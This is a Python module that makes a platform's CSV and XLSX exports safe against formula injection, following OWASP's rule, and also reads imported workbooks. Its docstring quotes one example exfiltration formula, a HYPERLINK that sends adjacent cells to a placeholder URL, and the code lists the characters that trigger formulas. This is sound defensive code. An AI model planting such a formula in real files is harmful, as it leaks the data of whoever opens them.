"""Every CSV and XLSX the platform writes goes through here, so that no cell starts a formula;
and the few it reads (a round's import), so that one module holds the formats' libraries.

A voter's question, a name or an answer can begin with ``=``, ``+``, ``-`` or ``@``; a
spreadsheet that opens the file would run it (``=HYPERLINK("http://…?leak="&A1, …)`` sends
the cells beside it away on a click). OWASP's rule for CSV injection, applied to every text
cell of both formats:

- A text whose first character is ``=``, ``+``, ``-``, ``@``, tab, carriage return (and, as
  ASVS adds, line feed or NUL), or whose first character after leading spaces and invisible
  characters is one of the four signs, gets a single quote in front. Spreadsheets trim
  leading spaces before they parse, and some read the full-width signs (``＝``, ``＋``, ``－``,
  ``＠``) as the ASCII ones: those are compared in their NFKC form.
- Numbers stay numbers: a count is never text, so a negative one is not quoted.
- In the CSV every text is inside double quotes (doubled within), so a ``;`` or a tab in a
  text cannot start a new cell in a spreadsheet set to another separator.
- In the XLSX every text is a string cell, set explicitly: openpyxl would otherwise take a
  string starting with ``=`` for a formula, and ``#N/A`` for an error.

The quote is the only change a reader sees. Word and PDF documents do not evaluate their text,
so the minutes' DOCX and PDF keep the voters' words exactly as written.
"""

import csv
import unicodedata
from collections.abc import Iterable, Sequence
from io import BytesIO, StringIO

from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_SIGNS = frozenset("=+-@")
# Cells starting with these are quoted whatever follows (OWASP; ASVS adds line feed and NUL).
FORMULA_CONTROLS = frozenset("\t\r\n\x00")
QUOTE = "'"
# Excel's longest sheet name.
SHEET_TITLE_LENGTH = 31

Cell = str | int | float | None


def _first_visible(text: str) -> str:
    """The first character a spreadsheet would parse: past spaces, control and format
    characters (zero-width spaces, a byte order mark), in its NFKC form (＝ reads as =)."""
    for character in text:
        if character.isspace() or unicodedata.category(character) in ("Cc", "Cf"):
            continue
        return unicodedata.normalize("NFKC", character)[:1]
    return ""


def starts_formula(text: str) -> bool:
    return bool(text) and (text[0] in FORMULA_CONTROLS or _first_visible(text) in FORMULA_SIGNS)


def inert(value: Cell) -> Cell:
    """The value as a cell no spreadsheet evaluates: numbers and empty cells as they are, any
    other value as text, quoted when it would start a formula."""
    if value is None:
        return None
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return value
    text = str(value)
    return QUOTE + text if starts_formula(text) else text


def csv_document(rows: Iterable[Sequence[Cell]]) -> bytes:
    """A CSV file of these rows (the first is the header), with every cell made inert."""
    out = StringIO()
    # QUOTE_NONNUMERIC: every text in double quotes, numbers bare.
    writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC)
    for row in rows:
        writer.writerow([inert(value) for value in row])
    # With a byte order mark, spreadsheets open the Vietnamese as UTF-8.
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def workbook() -> Workbook:
    """An empty workbook: add its sheets with ``add_sheet``."""
    book = Workbook()
    book.remove(book.active)
    return book


def add_sheet(
    book: Workbook, title: str, header: Sequence[str], rows: Iterable[Sequence[Cell]]
) -> Worksheet:
    """A sheet with a bold header row, every cell made inert and every text a string cell."""
    sheet = book.create_sheet(title[:SHEET_TITLE_LENGTH])
    _append(sheet, header)
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for row in rows:
        _append(sheet, row)
    return sheet


def xlsx_document(book: Workbook) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def _append(sheet: Worksheet, row: Sequence[Cell]) -> None:
    # XML cannot carry most control characters (openpyxl refuses them): they are dropped.
    values = [inert(value) for value in row]
    values = [ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in values]
    sheet.append(values)
    # The row just appended, by its number: ``sheet[sheet.max_row]`` reads every cell of the
    # sheet to find it (max_row, max_column), which made a sheet of n rows cost n² (a round's
    # synthesis has 1,400; bench/synthesis).
    row = sheet._current_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            sheet.cell(row=row, column=column).data_type = "s"


class NotAWorkbook(ValueError):
    """The bytes given are not an XLSX workbook openpyxl can read."""


def read_workbook(data: bytes) -> dict[str, list[tuple]]:
    """Each sheet's rows of values (the values, not formulas: a formula cell gives what it
    last computed), by sheet name."""
    try:
        book = load_workbook(BytesIO(data), read_only=True, data_only=True)
    except Exception as error:  # openpyxl raises many kinds for a file that is not a workbook
        raise NotAWorkbook(str(error)) from error
    try:
        return {name: list(book[name].iter_rows(values_only=True)) for name in book.sheetnames}
    finally:
        book.close()


def read_csv_rows(text: str, delimiter: str) -> list[list[str]]:
    """The rows of a CSV text."""
    return list(csv.reader(StringIO(text, newline=""), delimiter=delimiter))
